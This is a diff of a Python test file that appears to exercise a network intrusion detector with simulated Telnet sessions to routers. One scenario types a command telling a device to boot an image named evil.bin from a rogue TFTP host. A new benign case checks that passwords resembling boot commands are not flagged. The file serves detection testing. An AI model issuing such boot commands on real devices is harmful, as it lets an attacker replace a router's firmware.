@@ -183,7 +183,7 @@ def bw07_without_a_server(wire: Wire) -> None:
 def bw07_no_echo(wire: Wire) -> None:
     """The client edits and shows its lines itself, so the device echoes none."""
     session = Telnet(wire, ATTACKER, DEVICE, enter=b"\r\n")
-    session.login()
+    session.typed_blind("admin")
     session.typed_blind("conf t")
     session.typed_blind(f"boot system tftp://{ROGUE}/evil.bin")
     session.close()
@@ -213,6 +213,18 @@ def bw07_not_a_device_talk(wire: Wire) -> None:
     session.typed("echo we boot the system by tftp these days >> notes")
     session.typed("grep 'boot system' notes")
     session.close()
+
+
+@scenario("BW07", "benign", site=HQ, with_site=Expect(evidence=()))
+def bw07_passwords_like_commands(wire: Wire) -> None:
+    """Passwords that are boot commands are typed at login and at enable, whole and key by key."""
+    for number, by_key in enumerate((False, True)):
+        session = Telnet(wire, OPERATOR, f"10.0.1.{1 + number}", by_key=by_key, prompt="edge1>")
+        session.login(user="tom", password="reload")
+        session.typed("enable", "", prompt="Password: ")
+        session.typed_blind(f"tftpdnld {ROGUE}")
+        session.typed("show clock", "08:00:00.000 UTC Mon Jan 5 2026", prompt="edge1#")
+        session.close()
 
 
 @scenario(
